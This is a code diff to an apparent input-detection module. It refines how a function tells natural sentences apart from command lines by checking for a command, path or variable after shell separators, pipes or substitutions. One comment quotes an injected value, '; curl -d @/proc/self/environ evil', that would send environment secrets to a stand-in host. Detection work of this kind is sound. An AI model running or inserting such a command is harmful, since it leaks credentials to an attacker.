@@ -455,14 +455,15 @@ MENTION_LEVEL: Final = 1
 _SENTENCE_WORD: Final = r"(?<!\S)[(\"']?[^\W\d_]{2,}[,.;:!?)\"']{0,2}(?!\S)"
 #: Words a sentence has at least.
 SENTENCE_MIN_WORDS: Final = 6
-#: Shell syntax that makes a value a command line rather than a sentence: a separator, a pipe, a
-#: substitution or a new line ("my name and address; curl -d @/proc/self/environ evil").
-_COMMAND_SYNTAX: Final = r"[;|`\n]|\$\(|&(?!\w)"
+#: A separator, a pipe, a new line or a substitution, and the word after it: a command (or a path
+#: or variable) there makes the value a command line rather than a sentence ("my name and
+#: address; curl -d @/proc/self/environ evil"); "; it also reads /etc/hosts" stays a sentence.
+_SEPARATED_WORD: Final = r"(?:[;|&\n`]|\$\()[ \t]*([^\s;|&<>()'\"`]+)"
 
 
 def is_sentence(text: str) -> bool:
     """Whether ``text`` is a sentence: it starts with a word, holds at least six blank-separated
-    words of letters and no shell syntax (a separator, a pipe, a substitution, a new line). A
+    words of letters and no command after a separator, pipe, new line or substitution. A
     path, a URL or a query written without blanks has no such words; a value that starts with
     one (``http://10.0.0.5/admin#our cats and dogs ...``) is no sentence either.
 
@@ -474,9 +475,23 @@ def is_sentence(text: str) -> bool:
     """
     import re
 
-    if re.search(_COMMAND_SYNTAX, text) or not re.match(_SENTENCE_WORD, text.lstrip()):
+    if not re.match(_SENTENCE_WORD, text.lstrip()) or _command_syntax(text):
         return False
     return len(re.findall(_SENTENCE_WORD, text)) >= SENTENCE_MIN_WORDS
+
+
+def _command_syntax(text: str) -> bool:
+    """Whether a separator, pipe, new line or substitution of ``text`` is followed by a command,
+    a path or a variable (see :data:`_SEPARATED_WORD`)."""
+    import re
+
+    from protect_lambda.detectors.shell import COMMANDS
+
+    for m in re.finditer(_SEPARATED_WORD, text):
+        word = m.group(1)
+        if word in COMMANDS or word[:1] in "/.$~\\":
+            return True
+    return False
 
 
 def total_score(findings: Sequence[Finding]) -> int:
